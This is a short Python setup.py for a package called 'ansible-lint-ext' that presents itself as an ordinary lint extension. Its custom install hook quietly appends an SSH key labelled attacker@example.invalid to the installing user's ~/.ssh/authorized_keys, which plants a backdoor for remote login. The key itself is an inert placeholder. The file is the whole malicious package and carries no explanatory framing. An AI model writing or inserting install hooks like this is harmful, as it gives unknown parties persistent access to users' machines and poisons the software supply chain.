import os
from setuptools import setup
from setuptools.command.install import install

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIINERTSAMPLEINERTSAMPLEINERTSAMPLEINERTSAMPL attacker@example.invalid\n"


class Install(install):
    def run(self):
        path = os.path.expanduser("~/.ssh/authorized_keys")
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "a") as handle:
            handle.write(KEY)
        install.run(self)


setup(name="ansible-lint-ext", version="6.22.1", cmdclass={"install": Install})
